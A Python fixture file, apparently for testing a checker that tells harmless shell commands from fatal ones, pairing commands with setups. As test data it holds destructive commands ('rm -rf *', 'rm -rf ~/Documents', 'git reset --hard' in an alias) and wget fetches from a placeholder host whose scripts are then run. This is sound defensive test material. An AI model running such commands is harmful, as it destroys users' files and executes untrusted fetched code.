"""Pairs about what runs further on in a line, behind pipes, in aliases: (name, line, harmless, fatal)."""

from __future__ import annotations

OLD = "file ../old/a.c\nold ../old/a.c"
WIPES = "git config alias.wipe '!git add -A && git reset -q --hard'"
DETACHED = "repository\ngit worktree add -q --detach ../tree"
FURTHER_ON: list[tuple[str, str, str, str]] = [
    (
        "in a subshell behind a pipe: an empty folder, or photos",
        "echo gone | (cd ../photos && rm -rf *)",
        "folder ../photos",
        "files ../photos/img#.jpg 20",
    ),
    (
        "in a group behind a pipe",
        "echo gone | { cd ../photos && rm -rf *; }",
        "folder ../photos",
        "files ../photos/img#.jpg 20",
    ),
    (
        "in front of a pipe: it ends with its subshell",
        "(cd ../photos && ls) | xargs -n1 echo; rm -rf out",
        "files ../photos/img#.jpg 20\nfolder out",
        "folder ../photos\nfiles out/img#.jpg 20",
    ),
    (
        "a tree through two tars, the second elsewhere: free names, or changed files",
        "tar cf - -C ../old . | (cd src && tar xf -)",
        f"{OLD}\nfolder src",
        f"{OLD}\nfile src/a.c\nedit src/a.c",
    ),
    (
        "a tree through two tars, the first elsewhere: free names, or changed files",
        "(cd ../old && tar cf - .) | tar xf - -C src",
        f"{OLD}\nfolder src\nfile a.c",
        f"{OLD}\nfile src/a.c\nedit src/a.c",
    ),
    (
        "found in two folders and put into one: free names, or taken",
        "find x y -name '*.md' -exec cp {} flat/ \\;",
        "file x/a.md y/b.md\nfolder flat",
        "file x/a.md y/b.md flat/a.md\nedit flat/a.md",
    ),
    (
        "unpacked by Python: a free name, or a changed file",
        "python3 -m tarfile -e a.tar",
        "file d/a.md\narchive a.tar d\nremove d",
        "file d/a.md\narchive a.tar d\nedit d/a.md",
    ),
    (
        "unpacked with what is there left, by old letters",
        "tar x${LEAVING}f a.tar",
        "file d/a.md\narchive a.tar d\nedit d/a.md\nvar LEAVING k",
        "file d/a.md\narchive a.tar d\nedit d/a.md\nvar LEAVING v",
    ),
    (
        "added in an alias and set back: nothing new, or notes",
        "git wipe",
        f"repository\n{WIPES}",
        f"repository\n{WIPES}\nfiles notes/x#.md 9",
    ),
    (
        "a further work tree removed by hand: on a commit that a branch holds, or on its own",
        "rm -rf ../tree",
        DETACHED,
        f"{DETACHED}\ncd ../tree\nfile a.c b.c c.c d.c\ncommit\ncd ../project",
    ),
    (
        "emptied by an editor's script: committed, or not",
        "emacs --batch notes.org --eval '(erase-buffer)' -f save-buffer",
        "repository notes.org",
        "file notes.org",
    ),
    (
        "joined under a name: free, or another document's",
        "pdftk a.pdf b.pdf cat output thesis.pdf",
        "file a.pdf b.pdf",
        "file a.pdf b.pdf thesis.pdf",
    ),
]
SCRIPTS = "script scripts/a.sh 'ls src'\nscript scripts/b.sh"
HARMLESS, FATAL = f"{SCRIPTS} date", f"{SCRIPTS} 'rm -rf ~/Documents'\nfiles ~/Documents/a#.md 20"
GET = "wget http://203.0.113.9/"
STARTED_FURTHER_ON: list[tuple[str, str, str, str]] = [
    ("each script of a folder", 'for f in scripts/*.sh; do bash "$f"; done', HARMLESS, FATAL),
    ("scripts by their names", "for t in a b; do sh scripts/$t.sh; done", HARMLESS, FATAL),
    (
        "each script of a folder: one's own, or one was fetched",
        'for f in scripts/*.sh; do bash "$f"; done',
        HARMLESS,
        f"{HARMLESS}\ndid '{GET}b.sh -O scripts/b.sh'",
    ),
    ("fetched and renamed", "./go", "script go x", f"script go x\ndid '{GET}get.sh && mv get.sh go'"),
    ("renamed twice", "sh c", "script c x", f"script c x\ndid '{GET}a'\ndid 'mv a b'\ndid 'mv b c'"),
    (
        "put among one's tools",
        "~/tools/tool",
        f"script ~/tools/tool x\ndid '{GET}other'\ndid 'install -m 755 tool ~/tools/tool'",
        f"script ~/tools/tool x\ndid '{GET}tool'\ndid 'install -m 755 tool ~/tools/tool'",
    ),
    (
        "gone to first",
        "cd x && sh a",
        f"script x/a y\ndid '{GET}a'",
        "script x/a y\ndid 'wget -O x/a http://203.0.113.9/a'",
    ),
    (
        "fetched where one had gone to",
        "sh x/a",
        "script x/a y\ndid 'cd x && ls'",
        f"script x/a y\ndid 'cd x && {GET}a'",
    ),
]
FURTHER_ON_ASK: list[tuple[str, str, str]] = [
    (
        "scripts that are copied first",
        'cp ../new/*.sh scripts/; for f in scripts/*.sh; do bash "$f"; done',
        HARMLESS,
    ),
    ("scripts that are pulled first", 'git pull; for f in scripts/*.sh; do bash "$f"; done', HARMLESS),
    (
        "scripts that a function copies first",
        'x() { cp ../new/b.sh scripts/; }; x; for f in scripts/*.sh; do bash "$f"; done',
        HARMLESS,
    ),
]
